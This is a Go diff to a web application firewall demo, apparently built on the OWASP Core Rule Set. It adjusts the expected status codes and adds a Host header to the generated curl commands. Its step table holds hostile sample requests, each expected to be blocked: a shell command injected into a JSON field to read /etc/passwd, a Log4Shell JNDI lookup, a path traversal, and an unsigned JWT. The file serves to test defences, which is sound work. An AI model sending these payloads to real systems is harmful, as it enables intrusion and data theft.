@@ -25,6 +25,9 @@ var (
 	json = [2]string{"Content-Type", "application/json"}
 )
 
+// host is the name that the requests are for; CRS minds an address in its place.
+const host = "shop.example"
+
 // steps are what the demo plays, harmless requests first.
 var steps = []step{
 	{name: "a search", path: "/anything?q=red+shoes", verdict: engine.Pass, status: 200},
@@ -38,8 +41,8 @@ var steps = []step{
 	{name: "a shell command in JSON", path: "/anything", header: [][2]string{json}, body: `{"host":"localhost; cat /etc/passwd"}`, verdict: engine.Block, status: 403},
 	{name: "Log4Shell in a header", path: "/anything", header: [][2]string{{"X-Api-Version", "${jndi:ldap://x.example/a}"}}, verdict: engine.Block, status: 403},
 	{name: "a file of the system in the query", path: "/anything?file=../../../../etc/passwd", verdict: engine.Block, status: 403},
-	{name: "a JWT that says alg: none", path: "/anything", header: [][2]string{{"Authorization", "Bearer " + noneToken}}, verdict: engine.Block, status: 403},
-	{name: "XML where only JSON is allowed", path: "/anything/orders/7", header: [][2]string{{"Content-Type", "text/xml"}}, body: "<order/>", verdict: engine.Block, status: 403},
+	{name: "a JWT that says alg: none", path: "/anything", header: [][2]string{{"Authorization", "Bearer " + noneToken}}, verdict: engine.Block, status: 401},
+	{name: "XML where only JSON is allowed", path: "/anything/orders/7", header: [][2]string{{"Content-Type", "text/xml"}}, body: "<order/>", verdict: engine.Block, status: 415},
 	{name: "a client from a blocked network", path: "/anything", header: [][2]string{{"X-Forwarded-For", "203.0.113.9"}}, verdict: engine.Block, status: 403},
 	{name: "a body over the limit", path: "/anything", header: [][2]string{form}, body: "a=" + strings.Repeat("x", 200_000), verdict: engine.Block, status: 413},
 	{name: "an answer that leaks a database error", path: "/leak", verdict: engine.Block, status: 403},
@@ -71,7 +74,7 @@ const maxCurlBytes = 200
 
 // curl is the command that sends the step.
 func (s step) curl(addr string) string {
-	words := []string{"curl", "-i"}
+	words := []string{"curl", "-i", "-H", quote("Host: " + host)}
 	for _, line := range s.header {
 		words = append(words, "-H", quote(line[0]+": "+line[1]))
 	}
